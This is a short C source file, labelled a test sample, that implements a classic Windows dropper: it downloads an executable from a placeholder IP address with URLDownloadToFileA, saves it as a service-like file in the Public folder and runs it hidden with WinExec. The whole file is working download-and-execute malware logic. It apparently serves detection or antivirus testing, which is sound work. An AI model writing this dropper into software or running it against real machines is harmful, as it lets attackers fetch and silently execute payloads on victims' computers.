/* Test sample: the classic two-call dropper (download with urlmon, run it). */
#include <windows.h>
#include <urlmon.h>

int main(void) {
    const char *url = "http://198.51.100.7/payload.exe";
    const char *dst = "C:\\Users\\Public\\svc.exe";
    if (URLDownloadToFileA(NULL, url, dst, 0, NULL) == S_OK) {
        WinExec(dst, SW_HIDE);
    }
    return 0;
}
